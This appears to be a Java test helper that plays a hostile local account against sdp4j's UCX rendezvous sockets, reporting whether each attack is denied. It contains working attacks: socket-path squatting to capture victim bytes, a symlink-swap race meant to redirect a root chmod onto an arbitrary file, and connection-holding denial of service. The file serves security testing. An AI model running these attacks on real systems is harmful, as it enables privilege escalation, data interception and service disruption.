package org.sdp4j.ucx.attack;

import java.io.IOException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;

/**
 * What another local account does to sdp4j's UCX rendezvous, run by {@code AttackTest} under
 * {@code setpriv --reuid=65534}. JDK only (the attacker needs no UCX). Prints one result line per action:
 * {@code DENIED ...} when the system refused it, otherwise what it achieved.
 */
public final class Attacker {
    public static void main(String[] a) throws Exception {
        switch (a[0]) {
            case "hello" -> hello(Path.of(a[1]), HexFormat.of().parseHex(a[2]));
            case "squat" -> squat(a[1].split(","), Long.parseLong(a[2]));
            case "squat-dir" -> squatDir(Path.of(a[1]), Path.of(a[2]), Long.parseLong(a[3]));
            case "stall" -> stall(Path.of(a[1]), Integer.parseInt(a[2]), Long.parseLong(a[3]));
            default -> throw new IllegalArgumentException(a[0]);
        }
    }

    /** H1: connect to a listener's rendezvous socket and send {@code hello}. */
    static void hello(Path p, byte[] hello) throws Exception {
        try (SocketChannel c = SocketChannel.open(StandardProtocolFamily.UNIX)) {
            c.connect(UnixDomainSocketAddress.of(p));
            c.write(ByteBuffer.wrap(hello));
            Thread.sleep(1000);
            System.out.println("SENT " + hello.length);
        } catch (IOException e) {
            System.out.println("DENIED " + e);
        }
    }

    /** H2: bind a rendezvous socket under each of these names that it can; report every byte a victim sends. */
    static void squat(String[] paths, long millis) throws Exception {
        List<ServerSocketChannel> bound = new ArrayList<>();
        for (String s : paths) {
            Path p = Path.of(s);
            try {
                Files.createDirectories(p.getParent());
                ServerSocketChannel ch = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
                ch.bind(UnixDomainSocketAddress.of(p));
                p.toFile().setWritable(true, false);
                ch.configureBlocking(false);
                bound.add(ch);
                System.out.println("BOUND " + p);
            } catch (IOException e) {
                System.out.println("DENIED " + p + " " + e);
            }
        }
        System.out.println("READY");
        AtomicLong got = new AtomicLong();
        long end = System.nanoTime() + millis * 1_000_000L;
        List<SocketChannel> victims = new ArrayList<>();
        ByteBuffer b = ByteBuffer.allocate(4096);
        while (System.nanoTime() < end) {
            for (ServerSocketChannel ch : bound) {
                SocketChannel v = ch.accept();
                if (v != null) {
                    v.configureBlocking(false);
                    victims.add(v);
                }
            }
            for (SocketChannel v : victims) {
                b.clear();
                int n = v.read(b);
                if (n > 0) {
                    got.addAndGet(n);
                }
            }
            Thread.sleep(5);
        }
        System.out.println("RECEIVED " + got.get());
    }

    /**
     * H3: create the directory a root listener will use before it does, world-writable, then keep replacing every
     * socket that appears in it by a symlink to {@code target}, so that a chmod by path lands on the target.
     */
    static void squatDir(Path dir, Path target, long millis) throws Exception {
        try {
            Files.createDirectories(dir.getParent());
            Files.createDirectory(dir);
            Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwxrwxrwx"));
            System.out.println("CREATED " + dir);
        } catch (IOException e) {
            System.out.println("DENIED " + dir + " " + e);
        }
        System.out.println("READY");
        long end = System.nanoTime() + millis * 1_000_000L;
        int swapped = 0;
        while (System.nanoTime() < end) {
            try (var s = Files.newDirectoryStream(dir)) {
                for (Path p : s) {
                    if (p.getFileName().toString().endsWith(".x") || Files.isSymbolicLink(p)) {
                        continue;
                    }
                    try {
                        Files.move(p, p.resolveSibling(p.getFileName() + ".x"), StandardCopyOption.ATOMIC_MOVE);
                        Files.createSymbolicLink(p, target);
                        swapped++;
                    } catch (IOException lost) {
                        // the race goes on
                    }
                }
            } catch (IOException e) {
                Thread.sleep(1);
            }
        }
        System.out.println("SWAPPED " + swapped);
    }

    /** L1: open {@code n} connections to a rendezvous socket and never send a byte. */
    static void stall(Path p, int n, long millis) throws Exception {
        List<SocketChannel> held = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            try {
                SocketChannel c = SocketChannel.open(StandardProtocolFamily.UNIX);
                c.connect(UnixDomainSocketAddress.of(p));
                held.add(c);
            } catch (IOException e) {
                System.out.println("DENIED " + e);
                break;
            }
        }
        System.out.println("HOLDING " + held.size());
        System.out.println("READY");
        Thread.sleep(millis);
    }
}
